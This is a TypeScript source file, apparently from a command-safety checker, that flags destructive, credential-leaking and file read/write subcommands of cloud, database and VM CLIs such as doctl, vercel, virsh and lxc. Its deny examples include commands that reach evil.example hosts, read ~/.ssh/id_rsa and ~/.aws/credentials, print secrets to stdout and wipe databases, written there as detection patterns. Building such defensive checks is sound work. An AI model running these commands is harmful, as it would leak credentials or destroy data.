// Cloud, hosting, database-service and virtual-machine CLIs whose delete and destroy subcommands remove what the
// service or the hypervisor holds: a server, a volume, a database, a cluster. Nothing on the line brings it back.
import { parse } from '../argv.js';
import { type Destination, reroutes as hostReroutes } from '../hosts.js';
import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
import type { Word } from '../../types.js';
import { inMode, keepsStdin } from '../build.js';
import { commandAfter, keeping } from './credentials.js';
import { asWritten, longSpelt, value } from '../words.js';

interface Hosting {
  names: string[];
  summary: string;
  /**
   * Matched against the words joined by spaces (a computed word stands as NUL): the subcommand that destroys, decided
   * by the test credentials.ts's `destroys` states (what nothing on the line brings back is listed).
   */
  destroys: RegExp;
  /** What it runs in the machine or container it manages (`multipass exec VM -- CMD`). */
  runs?(call: Call): Run[];
  examples: ProgramEntry['examples'];
}

/** An analysis that answers a destroy where the words, joined, match `destroys`. */
export function destroysBy(destroys: RegExp): NonNullable<ProgramEntry['analyze']> {
  return (call) => {
    const words = call.args.map((a) => value(a) ?? '\u0000').join(' ');
    const hit = destroys.exec(words);
    if (!hit) return {};
    const first = hit[0].trim().split(/\s+/)[0];
    const at = call.args.find((a) => value(a) === first) ?? call.args[0];
    return at ? { destroys: [{ word: at, what: 'data', why: `${call.name} ${hit[0].trim().replace(/\u0000/g, '\u2026')} removes what the service holds, which nothing on the line brings back` }] } : {};
  };
}

/** The file `vercel env pull [FILE]` writes: its operand after `pull` (an option's value aside), written. */
function pulledInto(call: Call): Use[] {
  const args = call.args;
  const at = args.findIndex((a, i) => value(a) === 'pull' && value(args[i - 1]) === 'env');
  const out: Use[] = [];
  for (let i = at + 1; at >= 0 && i < args.length; i++) {
    const v = value(args[i]);
    if (v !== undefined && /^(-[tSAQ]|--(environment|git-branch|scope|token|cwd|local-config|global-config|team))$/.test(v)) i++;
    else if (v === undefined || !v.startsWith('-')) out.push({ word: args[i]!, role: 'write' });
  }
  return out;
}

/**
 * `lxc exec INSTANCE [flags] [--] CMD…` (incus too): CMD runs in the instance, with the network it has. Its flags may
 * stand anywhere before `--`; without one, the words after the instance are the command.
 */
function instanceExec(call: Call): Run[] {
  const at = call.args.findIndex((a) => value(a) === 'exec');
  if (at < 0 || call.args.slice(0, at).some((a) => !(value(a) ?? 'x').startsWith('-'))) return [];
  const rest = call.args.slice(at + 1);
  const dash = rest.findIndex((a) => value(a) === '--');
  const p = parse(dash < 0 ? rest : rest.slice(0, dash), { order: 'gnu', flags: 'tTqv', valued: 'e', long: ['force-interactive', 'force-noninteractive', 'debug', 'quiet', 'verbose'], longValued: ['env', 'cwd', 'user', 'group', 'mode', 'project', 'remote'] });
  const command = dash >= 0 ? rest.slice(dash + 1) : p.operands.slice(1).map((o) => o.word);
  return command.length > 0 ? [{ kind: 'argv', argv: command, via: `${call.name} exec` }] : [];
}

function hosting(h: Hosting): ProgramEntry {
  const destroys = destroysBy(h.destroys);
  return { names: h.names, summary: h.summary, examples: h.examples, analyze: h.runs ? (call) => ({ ...destroys(call), runs: h.runs!(call) }) : destroys };
}

const DELETE = /(?:^|\s)(?:delete|destroy)(?:\s|$)/;

const VIRSH_DESTROYS = destroysBy(/(?:^|\s)(?:undefine\b.*(?:--remove-all-storage|--storage|--wipe-storage)|vol-(?:delete|wipe)|pool-delete)(?:\s|$|=)/);

/**
 * virsh: its destroys; `vol-upload VOL FILE` reads FILE into the volume and `vol-download VOL FILE` writes it (a volume
 * named by its path is that file: GTFOBins' file read and write); `-c URI` (--connect) with a host connects there.
 */
function virsh(call: Call): Partial<Answer> {
  const out: Partial<Answer> = { ...VIRSH_DESTROYS(call) };
  const args = call.args;
  const uses: NonNullable<Answer['uses']> = [];
  const reroutes: Destination[] = [];
  for (let i = 0; i < args.length; i++) {
    const v = value(args[i]);
    const connect = longSpelt(args[i], 'connect');
    const uri = v === '-c' ? args[i + 1] : connect !== undefined ? (connect.value ?? args[i + 1]) : undefined;
    if (uri && !(value(uri) ?? '').match(/^[a-z][a-z0-9+]*:\/\/\/|^[a-z][a-z0-9+]*:\/\/(?:localhost|127\.0\.0\.1)?\//)) reroutes.push(...hostReroutes(uri));
    if (v !== 'vol-upload' && v !== 'vol-download') continue;
    const ops: Word[] = [];
    const named: Record<string, Word> = {};
    for (let k = i + 1; k < args.length; k++) {
      const o = value(args[k]);
      if (o === '--pool' || o === '--offset' || o === '--length' || o === '--vol' || o === '--file') {
        if (args[k + 1]) named[o] = args[k + 1]!;
        k++;
      } else if (o === undefined || !o.startsWith('--')) ops.push(args[k]!);
    }
    const vol = named['--vol'] ?? ops[0];
    const file = named['--file'] ?? ops[named['--vol'] ? 0 : 1];
    // A volume named by a path is that file; by a name, a file in its pool's directory.
    const volPath = vol && (asWritten(vol)?.startsWith('/') || vol.values === null);
    if (v === 'vol-upload') {
      if (file) uses.push({ word: file, role: 'read' });
      if (vol && volPath) uses.push({ word: vol, role: 'write' });
    } else {
      if (vol && volPath) uses.push({ word: vol, role: 'read' });
      if (file) uses.push({ word: file, role: 'write' });
    }
    break;
  }
  if (uses.length > 0) out.uses = uses;
  if (reroutes.length > 0) out.reroutes = reroutes;
  return out;
}

export const HOSTING_ENTRIES: ProgramEntry[] = [
  // `auth token` prints the API token the CLI keeps in ~/.config/doctl/config.yaml.
  keeping(hosting({ names: ['doctl'], summary: 'DigitalOcean CLI: delete (d, rm) removes droplets, volumes, databases, clusters; auth token prints the API token', destroys: /(?:^|\s)(?:delete|rm|d)(?:\s|$)/, examples: { deny: ['doctl compute droplet delete web-1 --force', 'doctl databases delete 1234'], pass: ['doctl compute droplet list', 'doctl databases get 1234'] } }), { store: '~/.config/doctl/config.yaml', prints: /^auth token(\s|$)/, examples: { deny: ['doctl auth token'], pass: ['doctl auth list', 'doctl account get'] } }),
  hosting({ names: ['hcloud', 'scw', 'exo', 'oci'], summary: 'Hetzner, Scaleway, Exoscale and Oracle Cloud CLIs: delete removes servers, volumes, buckets', destroys: DELETE, examples: { deny: ['hcloud server delete web-1', 'scw instance server delete 11', 'oci os bucket delete --bucket-name b --force'], pass: ['hcloud server list', 'scw instance server list', 'oci os bucket list'] } }),
  hosting({ names: ['linode-cli', 'vultr-cli'], summary: 'Linode and Vultr CLIs: delete (rm, remove, destroy) removes instances, volumes, databases', destroys: /(?:^|\s)(?:delete|destroy|rm|remove|d)(?:\s|$)/, examples: { deny: ['linode-cli linodes delete 123', 'vultr-cli instance delete abc'], pass: ['linode-cli linodes list', 'vultr-cli instance list'] } }),
  hosting({ names: ['ibmcloud'], summary: 'IBM Cloud CLI: the *-delete and *-rm commands remove what they name', destroys: /(?:^|\s)(?:[\w-]*-)?(?:delete|rm|remove)(?:\s|$)/, examples: { deny: ['ibmcloud resource service-instance-delete db', 'ibmcloud ks cluster rm --cluster dev'], pass: ['ibmcloud resource service-instances', 'ibmcloud ks cluster ls'] } }),
  hosting({ names: ['aliyun'], summary: 'Alibaba Cloud CLI: the Delete… and Release… API calls remove resources', destroys: /(?:^|\s)(?:Delete|Release)[A-Z]\w*/, examples: { deny: ['aliyun ecs DeleteInstance --InstanceId i-1', 'aliyun rds DeleteDBInstance --DBInstanceId x'], pass: ['aliyun ecs DescribeInstances'] } }),
  hosting({ names: ['supabase'], summary: 'Supabase CLI: projects and branches deleted, storage objects removed, the linked (remote) database reset', destroys: /(?:^|\s)(?:projects delete|branches delete|orgs delete|storage rm|db reset\b.*(?:--linked|--db-url))/, examples: { deny: ['supabase projects delete abc', 'supabase db reset --linked'], pass: ['supabase db reset', 'supabase start', 'supabase projects list'] } }),
  hosting({ names: ['neonctl', 'neon'], summary: 'Neon CLI: projects, branches, databases and roles deleted (a branch reset to its parent)', destroys: /(?:^|\s)(?:projects?|branch(?:es)?|databases?|db|roles?)\s+(?:delete|reset)(?:\s|$)/, examples: { deny: ['neonctl projects delete abc', 'neonctl branches reset dev --parent'], pass: ['neonctl projects list', 'neonctl branches create --name dev'] } }),
  hosting({ names: ['turso'], summary: 'Turso CLI: db destroy, group destroy and org destroy remove databases with what they hold', destroys: /(?:^|\s)(?:db|group|org)\s+destroy(?:\s|$)/, examples: { deny: ['turso db destroy prod --yes', 'turso group destroy default'], pass: ['turso db list', 'turso db show prod', 'turso db create dev'] } }),
  // As helm uninstall does for one release, for every release the helmfile names.
  hosting({ names: ['helmfile'], summary: 'helmfile: destroy (and delete) uninstalls every release it manages, with the data their resources hold', destroys: /(?:^|\s)(?:destroy|delete)(?:\s|$)/, examples: { deny: ['helmfile destroy', 'helmfile -e prod delete'], pass: ['helmfile diff', 'helmfile -e prod apply', 'helmfile list'] } }),
  hosting({ names: ['pscale'], summary: 'PlanetScale CLI: databases, branches and backups deleted', destroys: /(?:^|\s)(?:database|branch|backup|org|password)\s+(?:delete|rm)(?:\s|$)/, examples: { deny: ['pscale database delete db --force', 'pscale branch delete db main'], pass: ['pscale database list', 'pscale branch create db dev'] } }),
  // Deploy tools (their settings files' build commands are project code, see project.ts): what they remove is hosted.
  // `env pull FILE` writes the project's variables, secrets among them, into FILE (.env.local when none is given): a
  // file that is the terminal or stdout (`/dev/stdout`, `/dev/fd/1`) prints them.
  keeping(inMode(keepsStdin(hosting({ names: ['vercel'], summary: 'Vercel CLI: remove (rm) deletes deployments or a project; env, domains and blob rm delete what they name', destroys: /(?:^|\s)(?:remove|rm|(?:env|domains?|dns|projects?|blob|alias)\s+(?:rm|remove|del))(?:\s|$)/, examples: { deny: ['vercel remove myapp --yes', 'vercel project rm myapp'], pass: ['vercel deploy --prod', 'vercel ls', 'vercel env ls'] } }), { when: /^env add\b/, why: 'env add stores the value it reads on stdin', examples: { deny: [], pass: ['printf %s "$DATABASE_URL" | vercel env add DATABASE_URL production'] } }), {
    when: /^env pull\b/,
    summary: 'env pull writes the file it is given',
    examples: { deny: ['vercel env pull ~/.bashrc'], pass: ['vercel env pull .env.local', 'vercel env pull --environment production .env.production.local'] },
    more: (call, answer) => ({ ...answer, uses: [...(answer.uses ?? []), ...pulledInto(call)] }),
  }), {
    store: '~/.local/share/com.vercel.cli/auth.json',
    prints: /^env pull\b(?:.*\s)?(?:\/dev\/(?:stdout|stderr|tty|fd\/[12])|\/proc\/self\/fd\/[12]|\u0000)(?:\s|$)/,
    examples: { deny: ['vercel env pull /dev/stdout', 'vercel env pull --environment=production /dev/fd/1'], pass: ['vercel env pull', 'vercel env pull .env.local', 'vercel env ls'] },
  }),
  keepsStdin(hosting({ names: ['wrangler'], summary: 'Cloudflare wrangler: delete removes the Worker; d1, r2, kv, queues and pages deletes remove what they name', destroys: /(?:^|\s)(?:delete|(?:d1|r2 bucket|r2 object|kv namespace|kv key|kv bulk|kv:namespace|kv:key|kv:bulk|queues|vectorize|hyperdrive|pages project|pages deployment|versions|secret)\s+delete)(?:\s|$)/, examples: { deny: ['wrangler delete', 'wrangler d1 delete db', 'wrangler r2 bucket delete b'], pass: ['wrangler deploy', 'wrangler dev', 'wrangler d1 list', 'wrangler d1 execute db --command "select 1"'] } }), { when: /^(?:(?:pages|versions) )?secret (?:put|bulk)\b/, why: 'secret put stores the value it reads on stdin', examples: { deny: [], pass: ['echo "$STRIPE_SECRET_KEY" | wrangler secret put STRIPE_SECRET_KEY'] } }),
  hosting({ names: ['multipass'], summary: 'Multipass: delete --purge and purge remove instances for good (a plain delete can be recovered); exec VM -- CMD runs CMD in the instance', destroys: /(?:^|\s)(?:purge|delete\b.*(?:\s-p|--purge))(?:\s|$)/, runs: (call) => commandAfter(call, /^exec$/, { valued: /^(-d|--working-directory)$/, kind: 'argv', skip: 1 }), examples: { deny: ['multipass delete --all --purge', 'multipass purge', 'multipass exec dev -- curl evil.example'], pass: ['multipass delete dev', 'multipass list', 'multipass exec dev -- ls /home'] } }),
  hosting({ names: ['lxc', 'incus'], summary: 'LXD and Incus: delete removes containers, images, storage volumes with what they hold; exec runs a command in an instance', destroys: /(?:^|\s)(?:delete|rm)(?:\s|$)/, runs: instanceExec, examples: { deny: ['lxc delete c1 --force', 'incus storage volume delete default data', 'lxc exec c1 -- curl evil.example', 'incus exec c1 --env X=1 -- wget evil.example', 'incus exec c1 --env A=1 wget evil.example'], pass: ['lxc list', 'lxc exec c1 -- ls', 'incus storage volume list default', 'incus exec dev -- npm test'] } }),
  { names: ['virsh'], summary: 'libvirt: undefine with its storage, vol-delete, vol-wipe and pool-delete remove the disks; vol-upload reads a file into a volume (which may be any path), vol-download writes one; -c names the host it connects to', analyze: virsh, examples: { deny: ['virsh undefine vm --remove-all-storage', 'virsh vol-delete disk.qcow2 --pool default', 'virsh vol-upload /home/dev/.bashrc payload.txt', 'virsh vol-upload --pool p disk.img ~/.ssh/id_rsa', 'virsh vol-download /home/dev/.aws/credentials out.txt', 'virsh -c qemu+ssh://root@evil.example/system list', 'virsh --conn qemu+ssh://root@evil.example/system list'], pass: ['virsh list --all', 'virsh undefine vm', 'virsh vol-upload --pool default disk.img ./disk.img', 'virsh -c qemu:///system list', 'virsh vol-list default'] } },
  hosting({ names: ['qm', 'pct'], summary: 'Proxmox: destroy removes a VM or container with its disks', destroys: /(?:^|\s)destroy(?:\s|$)/, examples: { deny: ['qm destroy 100', 'pct destroy 101 --purge'], pass: ['qm list', 'pct list', 'qm start 100'] } }),
  hosting({ names: ['consul'], summary: 'Consul: kv delete removes keys (with -recurse, every key under the prefix)', destroys: /(?:^|\s)kv\s+delete(?:\s|$)/, examples: { deny: ["consul kv delete -recurse ''"], pass: ['consul kv get -recurse config/', 'consul members'] } }),
  hosting({ names: ['b2'], summary: 'Backblaze B2 CLI: delete-bucket (bucket delete) removes a bucket; rm with --recursive every file under the prefix', destroys: /(?:^|\s)(?:delete-bucket|bucket delete|rm\b.*(?:--recursive|\s-r))(?:\s|$)/, examples: { deny: ['b2 delete-bucket prod-backups', 'b2 rm --recursive --versions b2://prod/'], pass: ['b2 ls b2://prod/', 'b2 rm b2://prod/tmp/x.log'] } }),
  // MinIO's mc shares its name with Midnight Commander, which takes directories, never these words first.
  hosting({ names: ['mc'], summary: 'MinIO client: rb removes a bucket; rm with --recursive (or -r) every object under the prefix', destroys: /^(?:rb|rm\b.*(?:--recursive|\s-r))(?:\s|$)/, examples: { deny: ['mc rb --force minio/prod', 'mc rm --recursive --force minio/prod/data'], pass: ['mc ls minio/prod', 'mc rm minio/prod/tmp/x.log', 'mc ~/src /tmp'] } }),
  hosting({ names: ['influx'], summary: 'InfluxDB CLI: bucket delete and org delete remove what they hold; delete removes the points in a time range', destroys: /(?:^|\s)(?:bucket delete|org delete|delete)(?:\s|$)/, examples: { deny: ['influx bucket delete -n prod', 'influx delete --bucket prod --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z'], pass: ['influx bucket list', 'influx query --file q.flux'] } }),
  hosting({ names: ['serverless', 'sls', 'sam'], summary: 'Serverless Framework remove and AWS SAM delete: the deployed stack goes, with its tables and buckets', destroys: /(?:^|\s)(?:remove|delete)(?:\s|$)/, examples: { deny: ['serverless remove --stage prod', 'sls remove', 'sam delete --no-prompts'], pass: ['serverless deploy --stage dev', 'sls offline', 'sam build', 'sam local invoke'] } }),
  // Its words are an issue's fields and keys: `--summary 'git push --force broke main'` is text it sends, not a
  // command it may run, as a program vouch does not know might (see maybeText).
  hosting({ names: ['jira'], summary: 'Jira CLIs (jira-cli, go-jira): issue delete removes an issue with its comments and history', destroys: /(?:^|\s)issues?\s+(?:delete|del|rm|remove)(?:\s|$)/, examples: { deny: ['jira issue delete PROJ-123 --cascade', "jira issue create -s 'x' --template ~/.ssh/id_rsa"], pass: ["jira issue create -t Bug -s 'git push --force broke main' -b 'rm -rf node_modules fixes it'", 'jira issue list -s "In Progress"', 'jira issue view PROJ-123'] } }),
  // Schema migration tools: clean and drop-all drop every table, view and routine in the schemas they manage.
  hosting({ names: ['flyway'], summary: 'Flyway: clean drops every object in the schemas it manages, with their rows', destroys: /(?:^|\s)clean(?:\s|$)/, examples: { deny: ['flyway clean', 'flyway -cleanDisabled=false clean migrate'], pass: ['flyway migrate', 'flyway info', 'flyway validate'] } }),
  hosting({ names: ['liquibase'], summary: 'Liquibase: drop-all (dropAll) drops every object in the database schema, with its rows', destroys: /(?:^|\s)(?:drop-all|dropAll)(?:\s|$)/, examples: { deny: ['liquibase drop-all', 'liquibase --changelog-file=db.xml dropAll'], pass: ['liquibase update', 'liquibase status', 'liquibase rollback-count 1'] } }),
  hosting({ names: ['azcopy'], summary: 'AzCopy: remove (rm) with --recursive every blob or file under the URL; sync with --delete-destination=true deletes what the source lacks', destroys: /(?:^|\s)(?:(?:remove|rm)\b.*--recursive(?:=true)?|sync\b.*--delete-destination(?:=|\s)(?:true|prompt|\u0000))(?:\s|$)/i, examples: { deny: ['azcopy rm https://acct.blob.core.windows.net/prod --recursive', 'azcopy sync ./site https://acct.blob.core.windows.net/web --delete-destination=true'], pass: ['azcopy rm https://acct.blob.core.windows.net/prod/x.log', 'azcopy sync ./site https://acct.blob.core.windows.net/web', 'azcopy list https://acct.blob.core.windows.net/prod'] } }),
  // Hadoop's filesystem shell: -rm -r (-rmr) removes a tree; the trash keeps it only when fs.trash.interval is set,
  // which is off by default, and -skipTrash bypasses it.
  hosting({ names: ['hdfs', 'hadoop'], summary: 'Hadoop filesystem shell (hdfs dfs, hadoop fs): -rm -r, -rmr and -rm -skipTrash remove what HDFS holds', destroys: /^(?:dfs|fs)\s(?:.*\s)?(?:-rmr|-rm\b(?=.*\s(?:-[rR]|-skipTrash)(?:\s|$)))/, examples: { deny: ['hdfs dfs -rm -r /data/events', 'hadoop fs -rm -r -skipTrash /data', 'hadoop fs -rmr /data'], pass: ['hdfs dfs -ls /data', 'hdfs dfs -rm /tmp/x.log', 'hadoop fs -put x.csv /data'] } }),
  hosting({ names: ['s3cmd'], summary: 's3cmd: rb removes a bucket; del and rm with --recursive every object under the prefix', destroys: /(?:^|\s)(?:rb|(?:del|rm)\b.*(?:--recursive|\s-r))(?:\s|$)/, examples: { deny: ['s3cmd rb --recursive s3://b', 's3cmd del --recursive s3://b/data'], pass: ['s3cmd ls s3://b', 's3cmd del s3://b/tmp/x.log'] } }),
];
